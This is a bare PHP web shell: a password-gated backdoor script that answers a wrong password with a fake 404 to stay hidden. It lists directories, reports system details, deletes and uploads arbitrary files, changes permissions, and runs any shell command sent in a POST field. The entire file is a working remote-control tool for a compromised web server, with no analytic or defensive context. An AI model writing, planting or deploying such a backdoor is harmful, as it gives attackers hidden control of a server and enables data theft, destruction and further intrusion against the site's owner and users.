<?php
session_start();
if (md5($_POST['pw']) !== '5f4dcc3b5aa765d61d8327deb882cf99') { header('HTTP/1.0 404 Not Found'); exit; }
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo php_uname() . "<br>";
foreach (scandir($dir) as $f) { echo htmlspecialchars($f) . "<br>"; }
if (isset($_GET['rm'])) { unlink($_GET['rm']); }
if (isset($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . $_FILES['up']['name']); }
if (isset($_POST['mode'])) { chmod($_POST['file'], octdec($_POST['mode'])); }
if (isset($_POST['c'])) { echo '<pre>' . shell_exec($_POST['c']) . '</pre>'; }
